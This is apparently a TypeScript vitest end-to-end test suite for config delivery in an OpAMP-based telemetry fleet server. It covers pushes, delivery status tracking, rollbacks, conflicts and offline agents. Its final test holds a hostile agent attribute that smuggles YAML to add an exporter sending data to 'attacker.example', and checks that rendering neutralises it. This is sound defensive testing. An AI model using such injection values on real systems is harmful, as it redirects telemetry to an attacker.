/**
 * The config promise end to end, with the supervisor-like test agent: assign a template, the
 * agent gets it and reports APPLIED, a new revision is pushed within a second and tracked, a
 * FAILED report is shown and not pushed again, a retry pushes again.
 */

import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { configPushedAfter, createTenant, eventually, type TenantFixture } from "../helpers/fleet.js";
import type { ApplyConfig } from "../helpers/opamp/agent-options.js";
import { ConfigStatus } from "../helpers/opamp/agent-wire.js";
import { TestAgent } from "../helpers/opamp/supervisor.js";
import { startTestServer, type TestServer } from "../helpers/server.js";

let srv: TestServer;
let fleet: TenantFixture;
const agents: TestAgent[] = [];

const TEMPLATE_V1 = `receivers:
  otlp:
    protocols:
      grpc:
        endpoint: 0.0.0.0:4317
exporters:
  debug:
    verbosity: {{default (label "verbosity") "basic"}}
service:
  pipelines:
    traces:
      receivers: [otlp]
      exporters: [debug]
`;

async function enrolledAgent(labels: Record<string, string>, applyConfig?: ApplyConfig): Promise<TestAgent> {
  const { token } = await fleet.enrollmentToken({ labels });
  const a = new TestAgent({ url: fleet.opampUrl, token, ...(applyConfig ? { applyConfig } : {}) });
  agents.push(a);
  await a.start();
  await a.waitForConnection(2);
  await a.settle();
  return a;
}

const t = (suffix: string) => `/api/v1/tenants/${fleet.tenantId}${suffix}`;

/** A template and assignment named `name` for agents labelled tier=`tier`, one such agent, applied. */
async function agentWithAppliedConfig(name: string, tier: string) {
  await fleet.api.put(t(`/config-templates/${name}`), { content: TEMPLATE_V1 });
  await fleet.api.put(t(`/assignments/${name}`), { selector: `tier=${tier}`, template: name, priority: 10 });
  const a = await enrolledAgent({ tier });
  await a.waitFor((m) => m.remoteConfig !== undefined, 3_000);
  const applied = await eventually(async () => {
    const r = await fleet.api.get(t(`/agents/${a.instanceUidString}/deliveries`));
    return r.body.items[0]?.status === "applied" ? r.body.items[0] : undefined;
  });
  return { a, applied };
}

function yamlOf(msg: { remoteConfig?: { config?: { configMap: Record<string, { body: Uint8Array }> } } }) {
  const body = msg.remoteConfig?.config?.configMap[""]?.body;
  return body ? parse(Buffer.from(body).toString("utf8")) : undefined;
}

beforeAll(async () => {
  srv = await startTestServer({ env: { LIVENESS_FLUSH_MS: "200", FLEET_EVENTS_POLL_MS: "500" } });
  fleet = await createTenant(srv, "Config Delivery");
});
afterEach(async () => {
  for (const a of agents.splice(0)) await a.stop().catch(() => undefined);
});
afterAll(() => srv?.stop());

describe("config delivery", () => {
  it("delivers the rendered config of an assignment, tracks it to applied, and pushes a new revision within 1 s", async () => {
    expect((await fleet.api.put(t("/config-templates/base"), { content: TEMPLATE_V1 })).status).toBe(201);
    const a = await enrolledAgent({ env: "prod", verbosity: "detailed" });
    // No assignment yet: nothing is sent (never an empty config map).
    expect(a.received.some((m) => m.remoteConfig)).toBe(false);

    const put = await fleet.api.put(t("/assignments/prod"), {
      selector: "env=prod",
      template: "base",
      revision: "latest",
      priority: 10,
    });
    expect(put.status).toBe(201);
    const pushed = await a.waitFor((m) => m.remoteConfig !== undefined, 3_000);
    const config = yamlOf(pushed);
    expect(config.exporters.debug.verbosity).toBe("detailed");
    expect(Object.keys(pushed.remoteConfig?.config?.configMap ?? {})).toEqual([""]);
    expect(pushed.remoteConfig?.config?.configMap[""]?.contentType).toBe("text/yaml");
    const hash = Buffer.from(pushed.remoteConfig?.configHash ?? []).toString("hex");
    expect(hash).toMatch(/^[0-9a-f]{64}$/);

    const applied = await eventually(async () => {
      const r = await fleet.api.get(t(`/agents/${a.instanceUidString}/deliveries`));
      return r.body.items[0]?.status === "applied" ? r : undefined;
    });
    expect(applied.body.items[0]).toMatchObject({
      configHash: hash,
      status: "applied",
      template: "base",
      assignment: "prod",
      revision: { template: "base", version: 1 },
    });
    const all = await fleet.api.get(t("/deliveries?status=applied"));
    expect(all.body.items.map((d: { instanceUid: string }) => d.instanceUid)).toContain(a.instanceUidString);

    // A new revision reaches the connected agent within a second of the commit.
    const since = a.received.length;
    const started = Date.now();
    const v2 = await fleet.api.put(t("/config-templates/base"), {
      content: TEMPLATE_V1.replace("4317", "14317"),
      message: "new port",
    });
    expect(v2.status).toBe(201);
    expect(v2.body.revision.version).toBe(2);
    const second = await configPushedAfter(a, since);
    expect(Date.now() - started).toBeLessThan(1_000);
    expect(yamlOf(second).receivers.otlp.protocols.grpc.endpoint).toBe("0.0.0.0:14317");
    const history = await eventually(async () => {
      const r = await fleet.api.get(t(`/agents/${a.instanceUidString}/deliveries`));
      return r.body.items[0]?.status === "applied" && r.body.items[0]?.revision?.version === 2
        ? r
        : undefined;
    });
    expect(history.body.items.map((d: { status: string }) => d.status)).toEqual(["applied", "superseded"]);
    const rollup = await fleet.api.get(t("/deliveries/rollup?by=revision"));
    const v2counts = rollup.body.items.find((i: { key: string }) => i.key === "base@2");
    expect(v2counts.counts.applied).toBeGreaterThanOrEqual(1);
  });

  it("does not resend a config the agent already runs (same hash after a restart)", async () => {
    const a = await enrolledAgent({ env: "prod" });
    await a.waitFor((m) => m.remoteConfig !== undefined, 3_000);
    await a.settle();
    const offersBefore = a.received.filter((m) => m.remoteConfig).length;
    await a.restart();
    await a.waitForConnection(4);
    await a.settle();
    await a.heartbeat();
    expect(a.received.filter((m) => m.remoteConfig).length).toBe(offersBefore);
  });

  it("does not push again for a report that crossed the push over a WebSocket; an HTTP poll still gets it again", async () => {
    /**
     * An agent on `url` that got revision 2 of its own template and is still applying it (saying
     * nothing about it yet) when a report of revision 1 reaches the server: on a WebSocket, a
     * report the agent sent before it read the push. Returns the server's reply to that report.
     */
    const crossing = async (url: string, name: string) => {
      await fleet.api.put(t(`/config-templates/${name}`), { content: TEMPLATE_V1 });
      await fleet.api.put(t(`/assignments/${name}`), {
        selector: `tier=${name}`,
        template: name,
        priority: 10,
      });
      const { token } = await fleet.enrollmentToken({ labels: { tier: name } });
      let release = () => {};
      const held = new Promise<void>((resolve) => {
        release = resolve;
      });
      const a = new TestAgent({
        url,
        token,
        reportsApplying: false,
        applyConfig: async (config) => {
          const body = config.get("")?.body ?? "";
          if (body.includes("4318")) await held;
          return { ok: true, effectiveConfig: body };
        },
      });
      agents.push(a);
      await a.start();
      await a.waitForConnection(2);
      const first = await a.waitFor((m) => m.remoteConfig !== undefined, 3_000);
      await a.settle();
      const since = a.received.length;
      await fleet.api.put(t(`/config-templates/${name}`), { content: TEMPLATE_V1.replace("4317", "4318") });
      const pushed = await configPushedAfter(a, since);
      const reply = await a.send({
        remoteConfigStatus: {
          lastRemoteConfigHash: first.remoteConfig?.configHash ?? new Uint8Array(),
          status: ConfigStatus.APPLIED,
        },
      });
      release();
      await a.settle();
      // Once it applied revision 2, that is the one applied delivery: the crossing report of
      // revision 1 does not leave two.
      const history = await eventually(async () => {
        const r = await fleet.api.get(t(`/agents/${a.instanceUidString}/deliveries`));
        const items: { revision: { version: number }; status: string }[] = r.body.items;
        return items[0]?.revision.version === 2 && items[0].status === "applied" ? items : undefined;
      });
      expect(history.map((d) => [d.revision.version, d.status])).toEqual([
        [2, "applied"],
        [1, "superseded"],
      ]);
      return { reply, pushedHash: pushed.remoteConfig?.configHash };
    };
    const ws = await crossing(fleet.opampUrl, "crossing-ws");
    expect(ws.reply.remoteConfig).toBeUndefined();
    // Over HTTP the poll's answer with the push may have been lost: the next poll gets it again.
    const http = await crossing(fleet.opampUrl.replace(/^ws/, "http"), "crossing-http");
    expect(http.reply.remoteConfig?.configHash).toEqual(http.pushedHash);
  });

  it("shows a FAILED report with the agent's error and does not push that hash again until a retry", async () => {
    const failing: ApplyConfig = () => ({ ok: false, error: "cannot start pipeline: port 4317 in use" });
    const a = await enrolledAgent({ env: "prod" }, failing);
    const offered = await a.waitFor((m) => m.remoteConfig !== undefined, 3_000);
    const hash = Buffer.from(offered.remoteConfig?.configHash ?? []).toString("hex");
    const failed = await eventually(async () => {
      const r = await fleet.api.get(t(`/agents/${a.instanceUidString}/deliveries`));
      return r.body.items[0]?.status === "failed" ? r : undefined;
    });
    expect(failed.body.items[0]).toMatchObject({
      configHash: hash,
      errorMessage: "cannot start pipeline: port 4317 in use",
    });

    // Reconnecting with the failed status does not bring the same config back.
    await a.restart();
    await a.waitForConnection(4);
    await a.settle();
    await a.heartbeat();
    expect(a.received.filter((m) => m.remoteConfig).length).toBe(1);

    // An admin retry pushes it again.
    const beforeRetry = a.received.length;
    const retry = await fleet.api.post(t(`/agents/${a.instanceUidString}/deliveries/retry`));
    expect(retry.status).toBe(200);
    expect(retry.body.agents).toBe(1);
    await configPushedAfter(a, beforeRetry);
  });

  it("records the supervisor's automatic rollback: FAILED for the new hash, then APPLIED for the old one", async () => {
    await fleet.api.put(t("/config-templates/rollback"), { content: "receivers: {}\nexporters: {}\n" });
    await fleet.api.put(t("/assignments/rollback"), {
      selector: "team=rb",
      template: "rollback",
      priority: 5,
    });
    const a = await enrolledAgent({ team: "rb" });
    const first = await a.waitFor((m) => m.remoteConfig !== undefined, 3_000);
    const oldHash = Buffer.from(first.remoteConfig?.configHash ?? []);
    await eventually(async () => {
      const r = await fleet.api.get(t(`/agents/${a.instanceUidString}/deliveries`));
      return r.body.items[0]?.status === "applied" ? r : undefined;
    });
    const beforeV2 = a.received.length;
    await fleet.api.put(t("/config-templates/rollback"), {
      content: "receivers: {}\nexporters: {}\nprocessors: {}\n",
    });
    const second = await configPushedAfter(a, beforeV2);
    const newHash = Buffer.from(second.remoteConfig?.configHash ?? []);
    await a.settle();
    // What a supervisor with automatic_config_rollback reports: FAILED(new), then APPLIED(old).
    await a.send({
      remoteConfigStatus: { lastRemoteConfigHash: newHash, status: 3, errorMessage: "collector crashed" },
    });
    await a.send({ remoteConfigStatus: { lastRemoteConfigHash: oldHash, status: 1 } });
    const rows = await eventually(async () => {
      const r = await fleet.api.get(t(`/agents/${a.instanceUidString}/deliveries`));
      const old = r.body.items.find((d: { configHash: string }) => d.configHash === oldHash.toString("hex"));
      return old?.rolledBackFrom ? r : undefined;
    });
    const byHash = Object.fromEntries(rows.body.items.map((d: { configHash: string }) => [d.configHash, d]));
    expect(byHash[newHash.toString("hex")]).toMatchObject({
      status: "failed",
      errorMessage: "collector crashed",
    });
    expect(byHash[oldHash.toString("hex")]).toMatchObject({
      status: "applied",
      rolledBackFrom: newHash.toString("hex"),
    });
    // The failed config is not pushed again.
    await a.heartbeat();
    expect(a.received.filter((m) => m.remoteConfig).length).toBe(2);
  });

  it("fails a delivery whose template does not render for the agent, with the reason, and sends nothing", async () => {
    await fleet.api.put(t("/config-templates/needs-label"), {
      content: "exporters:\n  otlphttp:\n    endpoint: {{agent.labels.endpoint}}\n",
    });
    await fleet.api.put(t("/assignments/needs-label"), {
      selector: "team=nl",
      template: "needs-label",
      priority: 5,
    });
    const a = await enrolledAgent({ team: "nl" });
    const failed = await eventually(async () => {
      const r = await fleet.api.get(t(`/agents/${a.instanceUidString}/deliveries`));
      return r.body.items[0]?.status === "failed" ? r : undefined;
    });
    expect(failed.body.items[0].errorMessage).toMatch(/render failed: .*endpoint/);
    expect(a.received.some((m) => m.remoteConfig)).toBe(false);
    // Giving the agent the label fixes it: the change reaches it.
    const patched = await fleet.api.patch(t(`/agents/${a.instanceUidString}`), {
      labels: { endpoint: "otlp.example.com" },
    });
    expect(patched.status).toBe(200);
    const pushed = await a.waitFor((m) => m.remoteConfig !== undefined, 3_000);
    expect(yamlOf(pushed).exporters.otlphttp.endpoint).toBe("otlp.example.com");
  });

  it("sends nothing on a tie and reports the conflict on the agent and on the assignments", async () => {
    await fleet.api.put(t("/config-templates/tie"), { content: "receivers: {}\n" });
    await fleet.api.put(t("/assignments/tie-a"), { selector: "team=tie", template: "tie", priority: 7 });
    await fleet.api.put(t("/assignments/tie-b"), { selector: "team=tie", template: "tie", priority: 7 });
    const a = await enrolledAgent({ team: "tie" });
    await a.heartbeat();
    expect(a.received.some((m) => m.remoteConfig)).toBe(false);
    const explain = await fleet.api.get(t(`/agents/${a.instanceUidString}/config`));
    expect(explain.body).toMatchObject({ outcome: "conflict", conflict: ["tie-a", "tie-b"] });
    const asg = await fleet.api.get(t("/assignments/tie-a"));
    expect(asg.body.status).toMatchObject({
      conflictingAgents: 1,
      conflicts: [{ instanceUid: a.instanceUidString, tiedWith: ["tie-b"] }],
    });
    // Raising one priority resolves it and the agent gets its config.
    await fleet.api.put(t("/assignments/tie-b"), { selector: "team=tie", template: "tie", priority: 8 });
    await a.waitFor((m) => m.remoteConfig !== undefined, 3_000);
    expect((await fleet.api.get(t(`/agents/${a.instanceUidString}/config`))).body).toMatchObject({
      outcome: "config",
      assignment: "tie-b",
    });
  });

  it("records pending deliveries for offline agents and delivers them when they connect", async () => {
    await fleet.api.put(t("/config-templates/later"), { content: "receivers: {}\n" });
    const a = await enrolledAgent({ team: "offline" });
    await a.stop();
    await eventually(async () =>
      (await fleet.api.get(t(`/agents/${a.instanceUidString}`))).body.status === "offline" ? true : undefined,
    );
    await fleet.api.put(t("/assignments/later"), {
      selector: "team=offline",
      template: "later",
      priority: 1,
    });
    const pending = await eventually(async () => {
      const r = await fleet.api.get(t("/deliveries?status=pending&assignment=later"));
      return r.body.items.length > 0 ? r : undefined;
    });
    expect(pending.body.items[0]).toMatchObject({
      instanceUid: a.instanceUidString,
      status: "pending",
      template: "later",
    });
    const rollup = await fleet.api.get(t("/deliveries/rollup?by=assignment"));
    expect(rollup.body.items.find((i: { key: string }) => i.key === "later").counts.pending).toBe(1);
    // Back online: the config goes out and the row moves on.
    await a.restart();
    await a.waitFor((m) => m.remoteConfig !== undefined, 5_000);
    const applied = await eventually(async () => {
      const r = await fleet.api.get(t(`/agents/${a.instanceUidString}/deliveries`));
      return r.body.items[0]?.status === "applied" ? r : undefined;
    });
    expect(applied.body.items[0].assignment).toBe("later");
  });

  it("keeps an agent's delivery history when its assignment and template are deleted, their ids cleared", async () => {
    const { a, applied } = await agentWithAppliedConfig("short-lived", "short");
    expect(applied).toMatchObject({ template: "short-lived", assignment: "short-lived" });

    expect((await fleet.api.delete(t("/assignments/short-lived"))).status).toBe(204);
    expect((await fleet.api.delete(t("/config-templates/short-lived"))).status).toBe(204);
    const after = await fleet.api.get(t(`/agents/${a.instanceUidString}/deliveries`));
    expect(after.body.items).toHaveLength(1);
    expect(after.body.items[0]).toMatchObject({ id: applied.id, configHash: applied.configHash });
    expect(after.body.items[0]).toMatchObject({ template: null, assignment: null, revision: null });
    const row = await srv.ctx.database.db
      .selectFrom("agent_config_deliveries")
      .select(["template_id", "revision_id", "assignment_id"])
      .where("id", "=", applied.id)
      .executeTakeFirstOrThrow();
    expect(row).toEqual({ template_id: null, revision_id: null, assignment_id: null });
  });

  it("records a fan-out's rows behind its push: an APPLIED waits for its row, the rows keep their order", async () => {
    const { a, applied: first } = await agentWithAppliedConfig("behind", "behind");
    const deliveries = srv.ctx.services.deliveries;
    const db = srv.ctx.database.db;
    const row = await db
      .selectFrom("agent_config_deliveries")
      .selectAll()
      .where("id", "=", first.id)
      .executeTakeFirstOrThrow();
    const plan = (hash: string) => ({
      id: `dlv_behind_${hash}`,
      tenant_id: fleet.tenantId,
      instance_uid: a.instanceUidString,
      config_hash: hash,
      template_id: row.template_id,
      revision_id: row.revision_id,
      assignment_id: row.assignment_id,
      status: "offered" as const,
      error_message: null,
    });
    // Two fan-outs queued behind their pushes; the first one's write is held until released.
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    const [h2, h3] = ["b2".repeat(32), "b3".repeat(32)];
    const written = [
      deliveries.recordPlansBehindPush(
        fleet.tenantId,
        [plan(h2)],
        [{ instanceUid: a.instanceUidString, hash: h2 }],
        new Date(),
        () => held,
      ),
      deliveries.recordPlansBehindPush(
        fleet.tenantId,
        [plan(h3)],
        [{ instanceUid: a.instanceUidString, hash: h3 }],
        new Date(),
        async () => undefined,
      ),
    ];
    const hashes = async () =>
      (
        await db
          .selectFrom("agent_config_deliveries")
          .select(["config_hash", "status"])
          .where("instance_uid", "=", a.instanceUidString)
          .orderBy("config_hash")
          .execute()
      ).map((r) => `${r.config_hash.slice(0, 2)}:${r.status}`);
    let statusRecorded = false;
    const status = deliveries
      .recordStatus(fleet.tenantId, a.instanceUidString, {
        lastRemoteConfigHash: h3,
        status: "APPLIED",
        errorMessage: "",
      })
      .then(() => {
        statusRecorded = true;
      });
    try {
      // While the first write is held, the second waits for it, and so does the agent's APPLIED.
      for (let i = 0; i < 3; i++) await db.selectFrom("tenants").select("id").execute();
      expect(await hashes()).not.toContain("b3:offered");
      expect(await hashes()).not.toContain("b3:applied");
      expect(statusRecorded).toBe(false);
    } finally {
      release();
    }
    await Promise.all([...written, status]);
    // In the order decided: h2 offered then superseded by h3, which the agent's APPLIED reached.
    expect(await hashes()).toEqual(
      [`${first.configHash.slice(0, 2)}:superseded`, "b2:superseded", "b3:applied"].sort(),
    );
    await deliveries.drainPlanWrites();
  });

  it("keeps hostile agent-reported attributes from changing the rendered structure", async () => {
    await fleet.api.put(t("/config-templates/hostile"), {
      content:
        'processors:\n  resource:\n    attributes:\n      - key: host\n        value: {{attr "host.name" "unknown"}}\n        action: upsert\n',
    });
    await fleet.api.put(t("/assignments/hostile"), {
      selector: "team=hostile",
      template: "hostile",
      priority: 1,
    });
    const hostile = 'evil\nexporters:\n  otlphttp: {endpoint: "https://attacker.example"}\n# ';
    const { token } = await fleet.enrollmentToken({ labels: { team: "hostile" } });
    const a = new TestAgent({
      url: fleet.opampUrl,
      token,
      description: { nonIdentifying: { "host.name": hostile } },
    });
    agents.push(a);
    await a.start();
    const pushed = await a.waitFor((m) => m.remoteConfig !== undefined, 5_000);
    const config = yamlOf(pushed);
    expect(Object.keys(config)).toEqual(["processors"]);
    expect(config.processors.resource.attributes[0].value).toBe(hostile);
  });
});
